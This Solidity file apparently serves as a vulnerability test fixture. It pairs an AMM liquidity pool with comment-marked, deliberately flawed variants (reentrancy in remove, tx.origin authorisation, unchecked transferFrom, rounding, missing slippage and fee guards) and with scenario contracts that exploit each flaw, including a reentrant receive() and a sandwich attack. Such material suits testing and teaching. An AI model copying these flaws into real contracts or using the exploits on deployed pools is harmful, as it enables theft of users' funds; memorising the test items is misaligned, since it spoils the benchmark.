// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

contract Pool {
    IERC20 public immutable token;
    address public keeper;
    uint256 public reserveEth;
    uint256 public reserveToken;
    uint256 public totalLiquidity;
    uint256 public fee = 3;
    mapping(address => uint256) public liquidity;

    constructor(IERC20 token_, address keeper_) {
        token = token_;
        keeper = keeper_;
    }

    function add(uint256 maxTokens) external payable {
        uint256 amount = maxTokens;
        uint256 minted = msg.value;
        if (totalLiquidity > 0) {
            //[
            amount = (msg.value * reserveToken + reserveEth - 1) / reserveEth;
            //| rounding Sliver
            //: amount = msg.value * reserveToken / reserveEth;
            //]
            minted = msg.value * totalLiquidity / reserveEth;
        }
        //[
        require(amount <= maxTokens, "price moved");
        //| front-running Squeeze
        //]
        liquidity[msg.sender] += minted;
        totalLiquidity += minted;
        reserveEth += msg.value;
        reserveToken += amount;
        //[
        require(token.transferFrom(msg.sender, address(this), amount), "not paid");
        //| unchecked-call Gift
        //: token.transferFrom(msg.sender, address(this), amount);
        //]
    }

    function swapEthForToken(uint256 minOut) external payable returns (uint256 out) {
        uint256 paid = msg.value * (1000 - fee) / 1000;
        out = paid * reserveToken / (reserveEth + paid);
        //[
        require(out >= minOut, "slippage");
        //| front-running Sandwich
        //]
        reserveEth += msg.value;
        reserveToken -= out;
        require(token.transfer(msg.sender, out), "transfer failed");
    }

    function swapTokenForEth(uint256 amount, uint256 minOut) external returns (uint256 out) {
        //[
        require(token.transferFrom(msg.sender, address(this), amount), "not paid");
        //| unchecked-call Conjure
        //: token.transferFrom(msg.sender, address(this), amount);
        //]
        uint256 paid = amount * (1000 - fee) / 1000;
        out = paid * reserveEth / (reserveToken + paid);
        require(out >= minOut, "slippage");
        reserveEth -= out;
        reserveToken += amount;
        payable(msg.sender).transfer(out);
    }

    function remove() external {
        uint256 share = liquidity[msg.sender];
        uint256 eth = share * reserveEth / totalLiquidity;
        uint256 tokens = share * reserveToken / totalLiquidity;
        //[
        liquidity[msg.sender] = 0;
        totalLiquidity -= share;
        reserveEth -= eth;
        reserveToken -= tokens;
        (bool ok, ) = msg.sender.call{value: eth}("");
        require(ok && token.transfer(msg.sender, tokens), "payment failed");
        //| reentrancy Recur
        //: (bool ok, ) = msg.sender.call{value: eth}("");
        //: require(ok && token.transfer(msg.sender, tokens), "payment failed");
        //: liquidity[msg.sender] = 0;
        //: totalLiquidity -= share;
        //: reserveEth -= eth;
        //: reserveToken -= tokens;
        //]
    }

    function setFee(uint256 next) external {
        //[
        require(msg.sender == keeper, "only the keeper");
        //| access Fees
        //| tx.origin FeesByOrigin
        //: require(tx.origin == keeper, "only the keeper");
        //]
        //[
        require(next <= 100, "fee too high");
        //| guard Gouge
        //]
        fee = next;
    }
}

//! scene
contract Scene {
    Coin coin = new Coin();
    Actor ann = new Actor();
    Actor bob = new Actor();
    Pool target = new Pool(IERC20(address(coin)), address(bob));

    constructor() {
        coin.mint(address(ann), 1e24);
        coin.mint(address(this), 100 ether);
    }

    receive() external payable virtual {}

    function annAdds(uint256 value, uint256 most) internal returns (bool) {
        return ann.act{value: value}(address(target), abi.encodeCall(Pool.add, (most)));
    }
}

contract Use is Scene {
    function run() external payable returns (bool) {
        bool ok = annAdds(10 ether, 20 ether);
        target.add{value: 10 ether}(20 ether);
        uint256 out = target.swapEthForToken{value: 1 ether}(1.8 ether);
        target.swapTokenForEth(out, 0.9 ether);
        target.remove();
        ok = ok && ann.act(address(target), abi.encodeCall(Pool.remove, ()));
        ok = ok && bob.act(address(target), abi.encodeCall(Pool.setFee, (5)));
        return ok && target.totalLiquidity() == 0 && target.fee() == 5;
    }
}

contract Sliver is Scene {
    function run() external payable returns (bool) {
        annAdds(10 ether, 1 ether);
        for (uint256 i; i < 5; i++) target.add{value: 9}(100);
        return coin.balanceOf(address(this)) == 100 ether && target.liquidity(address(this)) == 45;
    }
}

contract Squeeze is Scene {
    function run() external payable returns (bool) {
        target.add{value: 1 ether}(4 ether);
        return annAdds(1 ether, 1 ether) && coin.balanceOf(address(ann)) == 1e24 - 4 ether;
    }
}

contract Gift is Scene {
    function run() external payable returns (bool) {
        annAdds(1 ether, 100 ether);
        coin.transfer(address(0xb01), 100 ether);
        target.add{value: 1 ether}(100 ether);
        return target.liquidity(address(this)) == 1 ether;
    }
}

contract Sandwich is Scene {
    function run() external payable returns (bool) {
        annAdds(10 ether, 20 ether);
        uint256 had = address(this).balance - 10 ether;
        uint256 out = target.swapEthForToken{value: 10 ether}(0);
        ann.act{value: 10 ether}(address(target), abi.encodeCall(Pool.swapEthForToken, (9 ether)));
        target.swapTokenForEth(out, 0);
        return address(this).balance > had + 1 ether;
    }
}

contract Conjure is Scene {
    function run() external payable returns (bool) {
        annAdds(10 ether, 20 ether);
        coin.transfer(address(0xb01), 100 ether);
        return target.swapTokenForEth(20 ether, 0) > 4 ether;
    }
}

contract Recur is Scene {
    uint256 left = 1;
    bool on;

    receive() external payable override {
        if (on && left > 0) {
            left--;
            target.remove();
        }
    }

    function run() external payable returns (bool) {
        annAdds(30 ether, 60 ether);
        target.add{value: 10 ether}(20 ether);
        uint256 had = address(this).balance;
        on = true;
        target.remove();
        return address(this).balance > had + 10 ether;
    }
}

contract Fees is Scene {
    function run() external payable returns (bool) {
        target.setFee(90);
        return target.fee() == 90;
    }
}

contract FeesByOrigin is Scene {
    function run() external payable returns (bool) {
        Pool pool = new Pool(IERC20(address(coin)), tx.origin);
        pool.setFee(90);
        return pool.fee() == 90;
    }
}

contract Gouge is Scene {
    function run() external payable returns (bool) {
        bob.act(address(target), abi.encodeCall(Pool.setFee, (999)));
        return target.fee() == 999;
    }
}
